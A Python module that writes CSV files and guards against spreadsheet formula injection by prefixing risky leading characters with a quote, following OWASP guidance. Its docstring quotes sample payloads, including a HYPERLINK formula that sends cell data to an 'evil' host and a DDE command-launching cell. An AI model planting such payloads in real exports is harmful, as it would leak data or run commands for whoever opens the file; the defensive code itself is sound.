"""Every CSV pairdesk writes goes through here: cells cannot become spreadsheet formulas.

A sheet of accounts comes from outside (customers' names, labels typed by
anyone), and its results go back into Excel or LibreOffice. A cell such as
`=HYPERLINK("http://evil/?"&A1,"click")`, `+cmd|' /C calc'!A0`, `-2+3` or
`@SUM(A1:A9)` is run as a formula when the file is opened (CSV injection,
OWASP). Following the OWASP guidance, a cell that starts with `=`, `+`, `-`,
`@`, a tab or a carriage return is prefixed with a single quote, so the
spreadsheet shows it as text; every cell is quoted, and quotes inside a cell
are doubled (the `csv` module's quoting).

The cost: a phone written `+62...` reads `'+62...` in a text editor. The
spreadsheet shows it without the quote, which is what the operator opens.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> str:
    """`value` as text that no spreadsheet runs as a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def write_csv(fields: Sequence[str], rows: Iterable[Mapping[str, object]]) -> str:
    """A header and one line per row (missing keys empty, extra keys ignored), every cell safe."""
    buf = io.StringIO()
    writer = csv.writer(buf, quoting=csv.QUOTE_ALL, lineterminator="\n")
    writer.writerow([safe_cell(f) for f in fields])
    for row in rows:
        writer.writerow([safe_cell(row.get(f, "")) for f in fields])
    return buf.getvalue()
